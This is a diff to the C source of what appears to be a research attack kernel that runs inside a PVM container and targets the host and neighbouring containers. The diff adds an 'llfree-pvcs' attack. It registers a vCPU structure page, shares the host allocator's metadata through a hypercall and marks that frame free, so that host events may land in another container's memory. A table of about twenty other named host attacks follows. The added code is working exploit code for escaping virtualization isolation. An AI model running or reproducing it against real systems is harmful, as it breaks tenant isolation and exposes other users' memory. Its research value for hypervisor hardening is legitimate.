@@ -1,6 +1,8 @@
 /* A container kernel that attacks the PVM host, and through it the container beside it.
  * Which attack: attack=NAME on the command line; at=ADDRESS is what it is after, in hexadecimal. */
+#include "hyperalloc.h"
 #include "kernel.h"
+#include "memory.h"
 #include "pager.h"
 #include "platform/entry.h"
 #include "pte.h"
@@ -190,6 +192,40 @@ static void given_pvcs(void) {
     asm volatile("ud2");
 }
 
+/* The words of an allocator that it has not call the frame of its PVCS free.  When the host has looked, another page of the
+ * container's may be the one that an event is written to. */
+#define FRAME 12UL
+#define PERIODS (6 * 2500000000UL)      /* cycles: one of the host's, and some */
+
+static u64 until;
+static struct pvm_vcpu_struct *given;
+
+/* The timer's event comes here, too: entry.S knows no PVCS but ours. */
+static void looked(void) {
+    given->event_vector = 0;
+    while (rdtsc() < until) {
+        hypercall(PVM_HC_WRMSR, MSR_TSC_DEADLINE, until);
+        hypercall(PVM_HC_IRQ_HLT, 0, 0);
+    }
+    other = page();
+    continued = written;
+    asm volatile("ud2");
+}
+
+static void freed_pvcs(void) {
+    u64 words = page(), own = FRAME << (PAGE_SHIFT + CHILD_ORDER);
+    u64 trees = ROUND_UP(boot->memory >> PAGE_SHIFT, (u64)TREE_FRAMES) / TREE_FRAMES;
+    u16 *child = direct(words), *tree = child + trees * TREE_CHILDREN;
+
+    given = memset(direct(own), 0, PAGE_SIZE);
+    hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, own);
+    hypercall3(MEMORY_HYPERCALL, HYPERALLOC_SHARE, words, trees);
+    child[FRAME] = tree[FRAME / TREE_CHILDREN] = CHILD_FRAMES;
+    until = rdtsc() + PERIODS;
+    continued = looked;
+    looked();
+}
+
 static void hosts_pointer(void) { outsb(COM1, (const u8 *)target, 8); }
 
 /* INVLPG where the host's own tables are. */
@@ -373,7 +409,7 @@ static void glutton(void) {
 }
 
 static const struct { const char *name; void (*run)(void); } attacks[] = {
-    {"selectors", selectors}, {"canonical", canonical}, {"entry", entries}, {"flags", flags}, {"pvcs", hosts_pvcs}, {"given-pvcs", given_pvcs},
+    {"selectors", selectors}, {"canonical", canonical}, {"entry", entries}, {"flags", flags}, {"pvcs", hosts_pvcs}, {"given-pvcs", given_pvcs}, {"llfree-pvcs", freed_pvcs},
     {"pointer", hosts_pointer}, {"pages", frames}, {"cr3", cr3}, {"store", store}, {"alias", alias}, {"recycled", recycled},
     {"endless", endless}, {"outs-endless", outs_endless}, {"leftovers", leftovers}, {"border", border},
     {"event", event_entries}, {"invlpg", invalidated}, {"half", half}, {"glutton", glutton},
